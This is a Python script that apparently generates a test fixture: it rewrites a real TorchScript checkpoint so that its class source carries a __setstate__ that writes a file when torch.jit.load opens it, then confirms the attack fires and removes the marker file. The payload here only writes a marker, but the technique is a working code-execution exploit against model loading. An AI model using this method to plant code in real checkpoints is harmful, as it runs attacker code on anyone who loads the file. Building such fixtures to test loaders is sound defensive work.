#!/usr/bin/env python3
"""A checkpoint that runs code when LibTorch's TorchScript importer reads it (the attack on
version-1 checkpoints): a real run's checkpoint whose class source (code/__torch__.py) is replaced
by that of a scripted module with the same attributes and a __setstate__ that writes a file.
Its data.pkl is the real one, naming only __torch__.Module.

    make_attack_checkpoint.py REAL.ckpt OUT.ckpt MARKER

Then it proves the attack is live: torch.jit.load(OUT) in PyTorch itself must write MARKER (the
load may fail afterwards: the file is already written). MARKER is removed again; exit 1 if it was
never written, because then a test that sees nothing written proves nothing.
"""
import os
import sys
import zipfile
from typing import Dict, Final, List

import torch

real, out, MARKER = sys.argv[1], sys.argv[2], os.path.abspath(sys.argv[3])


class Module(torch.nn.Module):
    """The old checkpoint's attributes, and a __setstate__ of the attacker's choosing."""

    marker: Final[str]  # a constant: TorchScript writes its value into the class source
    model_names: List[str]
    model_tensors: List[torch.Tensor]
    momentum: List[torch.Tensor]

    def __init__(self):
        super().__init__()
        self.marker = MARKER
        self.format = ""
        self.version = 0
        self.config = ""
        self.state = ""
        self.data_fingerprint = ""
        self.changes = ""
        self.model_names = []
        self.model_tensors = []
        self.momentum = []
        self.norm_mean = torch.nn.Parameter(torch.zeros(1))
        self.norm_std = torch.nn.Parameter(torch.zeros(1))

    @torch.jit.export
    def __getstate__(self) -> Dict[str, str]:
        return {"format": self.format}

    @torch.jit.export
    def __setstate__(self, state: Dict[str, str]) -> None:
        torch.save(torch.zeros(1), self.marker)  # any file the attacker likes
        self.format = "written"


scripted_path = out + ".scripted"
torch.jit.save(torch.jit.script(Module()), scripted_path)
with zipfile.ZipFile(scripted_path) as z:
    code = {n.split("/", 1)[1]: z.read(n) for n in z.namelist() if "/code/" in n}
os.remove(scripted_path)
assert b"__setstate__" in code["code/__torch__.py"], code

with zipfile.ZipFile(real) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
    for info in src.infolist():
        folder, name = info.filename.split("/", 1)
        data = code.get(name, src.read(info.filename))
        dst.writestr(f"{folder}/{name}", data)

# Live? PyTorch's own importer runs the __setstate__.
if os.path.exists(MARKER):
    os.remove(MARKER)
try:
    torch.jit.load(out)
except Exception as e:  # after __setstate__ ran, the rest of the load may fail
    print(f"torch.jit.load then failed: {str(e).splitlines()[0]}")
if not os.path.exists(MARKER):
    print("make_attack_checkpoint.py: torch.jit.load did not write the marker: the attack is not live", file=sys.stderr)
    sys.exit(1)
os.remove(MARKER)
print(f"{out}: torch.jit.load writes {MARKER} (live)")
